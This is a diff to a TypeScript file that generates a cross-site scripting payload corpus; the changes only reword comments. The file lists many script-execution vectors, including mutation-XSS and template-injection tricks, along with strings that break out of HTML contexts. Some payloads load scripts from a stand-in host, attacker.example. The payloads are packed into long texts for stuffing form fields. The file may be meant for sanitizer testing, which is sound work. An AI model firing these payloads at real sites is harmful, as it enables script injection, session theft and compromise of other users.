@@ -1,7 +1,7 @@
-// Malicious HTML: ways to run a script × contexts to break out of. Each calls `attack`, or brings something from the
-// attacker's host.
+// Malicious HTML: ways to run a script × contexts to break out of. Each payload calls `attack` or fetches something from
+// the attacker's host.
 
-/** Ways to run a script or to fetch something. CODE is what runs, URL leads to the attacker. */
+/** Ways to run a script or fetch something. CODE stands for the script, URL for the attacker's address. */
 const vectors = [
   ...['<script>CODE</script>', '<script src="URL"></script>', '<script/src=URL>', '<script>CODE'],
   ...['<img src=x onerror=CODE>', '<img src="x" onerror="CODE">', '<img srcset="URL 1x" src=x onerror=CODE>'],
@@ -18,7 +18,7 @@ const vectors = [
   ...['<style>@import "URL";</style>', '<p style="background:url(URL)">p', '<embed src="URL">'],
   '<p id=x tabindex=0 onfocus=CODE style="animation:x 1s" onanimationstart=CODE>p',
   '<template shadowrootmode=open><img src=x onerror=CODE></template>',
-  // Text that is markup only to whoever parses it again.
+  // Text that becomes markup only when parsed a second time.
   '<noscript><p title="</noscript><img src=x onerror=CODE>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
@@ -29,7 +29,7 @@ const vectors = [
   ...['\x24{CODE}', '{{constructor.constructor("CODE")()}}', '\\u003cscript\\u003eCODE\\u003c/script\\u003e'],
 ];
 
-/** What closes the place that a text may stand in: attributes, titles, scripts, comments, data. */
+/** Strings that break out of attributes, titles, scripts, comments or data. */
 const contexts = [
   ...['', '">', "'>", ' ', '--><!--x-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'],
   ...['</p></div>', '\\">', '</noscript>', '</template>', '</svg>', '</math>', '`>', '"}]</script>'],
@@ -40,15 +40,15 @@ const code = 'attack()';
 const url = 'https://attacker.example/';
 const filledIn = (text: string) => text.replaceAll('CODE', () => code).replaceAll('URL', () => url);
 
-/** Every vector in eight contexts, which take turns. */
+/** Every vector in eight of the contexts, in rotation. */
 const payloads = vectors.flatMap((vector, row) =>
   Array.from({ length: 8 }, (_, turn) => contexts[(row + turn) % contexts.length] + filledIn(vector)),
 );
 
-/** Ends whatever a payload has left open, so that the next one is read as markup again. */
+/** Closes whatever a payload leaves open, so that the next one is parsed as markup again. */
 const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;
 
-/** What runs wherever it is not escaped, short enough for any field. */
+/** Payloads short enough for any field. */
 const short = [
   '<noscript><p title="</noscript><img src=x onerror=attack()>">',
   ...['"', "'", '', '-->', '</title>', '</script>', '</style>', '</textarea>', '</noscript>'].map(
@@ -56,7 +56,7 @@ const short = [
   ),
 ];
 
-/** All payloads, in texts of at most 19,000 characters; each begins with one for the fields that have no room for more. */
+/** All payloads, joined into texts of at most 19,000 characters. Each begins with a short one, for short fields. */
 export const markup: string[] = [];
 for (const payload of payloads) {
   const more = (markup.at(-1) ?? '') + closing + payload;
